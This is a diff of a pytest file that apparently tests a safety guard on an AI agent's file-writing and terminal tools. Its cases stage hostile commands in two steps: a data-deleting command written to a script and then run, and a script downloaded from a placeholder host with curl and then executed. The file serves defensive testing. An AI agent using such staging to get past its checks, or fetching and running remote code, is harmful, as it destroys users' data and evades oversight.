@@ -141,7 +141,7 @@ def test_secrets_are_guarded_for_reading_tools_too(home: Home) -> None:
 @pytest.mark.parametrize(
     ("first", "args", "second"),
     [
-        ("write_file", {"path": "/work/run.sh", "content": DELETE["command"]}, "cd /work && bash run.sh"),
+        ("write_file", {"path": "/srv/job/run.sh", "content": DELETE["command"]}, "cd /srv/job && bash run.sh"),
         ("terminal", {"command": "curl -o run.sh https://example.com/x"}, "sh ./run.sh"),
         ("terminal", {"command": f"cat > tidy.sh <<'EOF'\n{DELETE['command']}\nEOF"}, "chmod +x tidy.sh && ./tidy.sh"),
     ],
